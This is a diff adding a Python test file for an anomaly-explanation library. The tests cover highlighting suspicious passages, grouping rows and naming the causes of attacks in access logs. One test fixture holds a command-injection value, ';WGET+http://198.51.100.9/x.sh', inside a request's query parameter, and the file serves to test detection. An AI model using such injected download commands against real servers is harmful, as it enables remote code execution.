@@ -1,0 +1,119 @@
+"""Documents stand out by runs of characters, each once, whose sum is exact."""
+
+import numpy as np
+import pytest
+from benchmarks.reasons import measured
+
+from ramodo.datasets import make_access_log
+from ramodo.explain.grouping import groups_of
+from ramodo.explain.passages import passages
+from ramodo.explain.reasons import Lacks, Reason, RowExplanation, Span
+from ramodo.formats import TextOptions
+from ramodo.formats.text import spans_of, vectorize
+from ramodo.report.marking import marked
+
+OPTIONS = TextOptions()
+
+
+def worth_of(text, *odd):
+    """Features of a text, and contributions: 1 for each token that lies in one of the odd pieces, 0.01 for others."""
+    row = vectorize([text], OPTIONS)
+    row.sort_indices()
+    tokens = spans_of(text, OPTIONS)
+    places = [(text.lower().find(piece), piece) for piece in odd]
+    hot = {
+        int(column)
+        for column, begin, end in zip(tokens.columns, tokens.begins, tokens.ends, strict=True)
+        if any(at <= begin and end <= at + len(piece) for at, piece in places)
+    }
+    return row.indices.astype(np.int64), np.array([1.0 if c in hot else 0.01 for c in row.indices.tolist()])
+
+
+def test_overlapping_tokens_are_one_run_and_words_are_whole():
+    text = "GET /cart/add?item=1;WGET+http://198.51.100.9/x.sh HTTP/1.1"
+    columns, amounts = worth_of(text, "wget+http://198.51.100.9/x.sh")
+    found, is_token = passages(text, columns, amounts, OPTIONS)
+    assert is_token.all()
+    assert [passage.text for passage in found] == ["WGET+http://198.51.100.9/x.sh"]
+    assert found[0].contribution == pytest.approx(amounts[amounts == 1].sum(), rel=0.1)
+    assert sum(passage.contribution for passage in found) < amounts.sum()
+
+
+def test_what_reads_the_same_is_one_reason_with_several_places():
+    text = "the quick  BONUS fox jumps over the bonus dog"
+    columns, amounts = worth_of(text, "bonus")
+    (passage,) = passages(text, columns, amounts, OPTIONS).found
+    assert [text[span.begin : span.end] for span in passage.spans] == ["BONUS", "bonus"]
+
+
+def test_places_are_characters_whatever_the_bytes_are():
+    text = "  zażółć\tgęślą \U0001f600  jaźń viagra ok"
+    columns, amounts = worth_of(text, "viagra")
+    columns, amounts = worth_of(" ".join(text.split()), "viagra")
+    row = vectorize([text], OPTIONS)
+    row.sort_indices()
+    hot = {c for c, a in zip(columns.tolist(), amounts.tolist(), strict=True) if a == 1}
+    tokens = spans_of(text, OPTIONS)
+    odd = [
+        int(c)
+        for c, a, b in zip(tokens.columns, tokens.begins, tokens.ends, strict=True)
+        if b"viagra".find(tokens.normalised[a:b]) >= 0
+    ]
+    amounts = np.array([1.0 if c in odd or c in hot else 0.01 for c in row.indices.tolist()])
+    (passage,) = passages(text, row.indices.astype(np.int64), amounts, OPTIONS).found
+    assert passage.text == "viagra"
+    assert text[passage.spans[0].begin : passage.spans[0].end] == "viagra"
+
+
+def test_features_that_are_no_tokens_stay_what_they_are():
+    text = "some words here"
+    columns, amounts = worth_of(text)
+    columns, amounts = np.append(columns, OPTIONS.n_features + 5), np.append(amounts, 7.0)
+    assert passages(text, columns, amounts, OPTIONS).is_token.tolist() == [True] * (len(columns) - 1) + [False]
+    assert passages("", np.array([3]), np.array([1.0]), OPTIONS).found == []
+
+
+def test_a_long_document_shows_where_its_reasons_are():
+    text = "ordinary words " * 200 + "CASINO\x1b" + " more words" * 200
+    at = text.index("CASINO")
+    reason = Reason(0, "'CASINO'", 1.0, 2.0, 0.0, 0.0, (Span(at, at + 6, 2.0),))
+    shown, marks = marked(text, [reason], 300)
+    assert len(shown) < 320
+    assert shown.startswith("ordinary words")
+    assert "\\x1b" in shown
+    assert [shown[a:b] for a, b, _ in marks] == ["CASINO"]
+    assert marked("a\n\n b", [], 300) == ("a b", [])
+
+
+def test_fewer_than_usual_is_said():
+    fewer = Reason(0, "'---'", 6.0, 1.0, 0.98, 8.0, (Span(0, 3, 1.0),))
+    assert fewer.typical().startswith("fewer than usual: in 98 % of references, mean 8")
+    assert Reason(0, "age", 6.0, 1.0, 0.98, 8.0).compared() == "lower than usual"
+    assert Reason(0, "age", 6.0, 1.0, 0.2, 8.0).compared() == ""
+    assert Reason(0, "'x'", 1.0, 1.0, 0.1, 1.0, (Span(0, 1, 1.0),), 3, 4, 90).typical() == "in at most 4 of 90 rows"
+
+
+def test_a_score_that_is_spread_out_is_said_to_be():
+    reasons = tuple(Reason(i, f"f{i}", 1.0, 1.4, 0.1, 1.0) for i in range(10))
+    spread = RowExplanation(0, 100.0, 99.0, reasons, 80.0, (), (), Lacks(6.0, 312, ()), 812)
+    assert spread.spread() == "no single reason: the strongest 10 of 812 features make 14 % of the score"
+    enough = RowExplanation(0, 16.0, 99.0, reasons, 2.0, (), (), Lacks(0.0, 0, ()), 812)
+    assert enough.spread() == ""
+
+
+def test_a_great_many_rows_are_grouped():
+    """In several turns, of which the later ones join the groups of the first."""
+    rng = np.random.default_rng(0)
+    rows = [(np.array([i % 3, 10 + int(rng.integers(500))]), np.array([2.0, 0.5])) for i in range(4500)]
+    rows += [(np.array([1000 + i]), np.array([1.0])) for i in range(3)]
+    found = groups_of(rows, [float(4503 - i) for i in range(4503)])
+    assert [len(group) for group in found] == [1500, 1500, 1500]
+    assert all(len({place % 3 for place in group}) == 1 for group in found)
+
+
+def test_the_cause_of_an_attack_is_among_its_three_strongest_reasons():
+    log = make_access_log(4_000, random_state=0)
+    found = measured(log.lines, log.kinds, log.causes)
+    assert found.n >= 12
+    assert found.named >= 0.8
+    assert found.agreement >= 0.5
